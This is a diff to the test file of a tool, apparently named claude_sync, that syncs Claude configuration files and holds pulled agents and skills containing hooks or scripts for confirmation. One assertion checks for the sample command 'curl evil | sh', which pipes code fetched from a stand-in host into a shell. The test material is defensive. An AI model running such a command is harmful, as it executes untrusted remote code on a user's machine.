@@ -79,15 +79,17 @@ def test_code_waits_for_resolve_and_words_arrive(machines, repo_dir):
     assert (b.claude / "commands/status.md").read_text() == STATUS
     assert "Be plainer" in (b.claude / "agents/plain.md").read_text()
     listing = b.run("conflicts").stdout
-    assert "changed the code it runs (hooks)" in listing
+    assert "agents/helper.md: " in listing and "added it, with code that runs (hooks)" in listing
     status = next(line for line in listing.splitlines() if line.startswith("commands/status.md"))
     assert "the code it runs (shell lines)" in status and "`--take local` keeps yours" in status
     assert "skills/tidy/run.sh" in listing and "(script)" in listing
     assert "`--take local` removes it everywhere" in listing
 
-    # Waiting is stable: another pull writes nothing, a push does not send b's old version.
+    # Waiting is stable: another pull writes nothing, a push does not send b's old version,
+    # a sync says they wait (it said "Everything is up to date" and exit 0).
     before = snapshot_tree(b.claude)
     assert b.run("pull", check=False).returncode == 3
+    assert b.json("sync", expect=3)["conflicts"] == HELD
     assert b.json("push")["pushed"] == []
     assert snapshot_tree(b.claude) == before
 
@@ -142,7 +144,7 @@ def test_on_a_terminal_pull_shows_the_code_and_asks(machines, repo_dir, answer):
         encoding="utf-8",
         timeout=60,
     )
-    child.expect("agents/helper.md from .* changes parts that run or authorise code")
+    child.expect("agents/helper.md from .* adds parts that run or authorise code")
     child.expect("Apply it")
     shown = child.before
     child.sendline(answer)
@@ -151,6 +153,35 @@ def test_on_a_terminal_pull_shows_the_code_and_asks(machines, repo_dir, answer):
     assert "curl evil | sh" in shown and '"hooks"' in shown
     assert child.exitstatus == (0 if answer == "y" else 3)
     assert (b.claude / "agents/helper.md").exists() == (answer == "y")
+
+
+def test_a_first_pull_asks_once_and_a_folder_resolves_at_once(machines, repo_dir):
+    """A skill of many files brought as many questions, and as many `resolve`s."""
+    a, b = machines
+    set_up(a, b, repo_dir)
+    for name in ("run.sh", "lib.py", "data.txt"):
+        a.write(f"skills/tidy/{name}", f"# {name}\n")
+    a.write("skills/tidy/SKILL.md", ALLOWED_SKILL)
+    a.write("agents/helper.md", HOOKED_AGENT)
+    a.run("push")
+    child = pexpect.spawn(
+        sys.executable,
+        ["-m", "claude_sync", "pull"],
+        env=b.environ() | {"TERM": "dumb", "COLUMNS": "200"},
+        cwd=str(b.home),
+        encoding="utf-8",
+        timeout=60,
+    )
+    child.expect("Apply all 5 of them")
+    shown = child.before
+    child.sendline("n")
+    child.expect(pexpect.EOF)
+    child.close()
+    assert child.exitstatus == 3
+    assert shown.count("adds parts that run or authorise code") == 5
+    b.run("resolve", "skills/tidy", "--take", "remote")
+    assert b.json("status", expect=3)["conflicts"] == ["agents/helper.md"]
+    assert (b.claude / "skills/tidy/lib.py").read_text() == "# lib.py\n"
 
 
 def test_a_whole_restore_leaves_code_out_until_named(machines, repo_dir):
@@ -166,7 +197,7 @@ def test_a_whole_restore_leaves_code_out_until_named(machines, repo_dir):
     assert "1 file that can run code (agents/helper.md) comes back only when named" in " ".join(
         restored.stderr.split()
     )
-    assert "claude-sync restore agents --snapshot 1" in restored.stderr
+    assert "claude-sync restore agents/helper.md --snapshot 1" in restored.stderr
     assert (a.claude / "agents/plain.md").read_text() == "plain\n"
     assert "hooks" not in (a.claude / "agents/helper.md").read_text()
     a.run("restore", "agents", "--snapshot", "1", "--force")
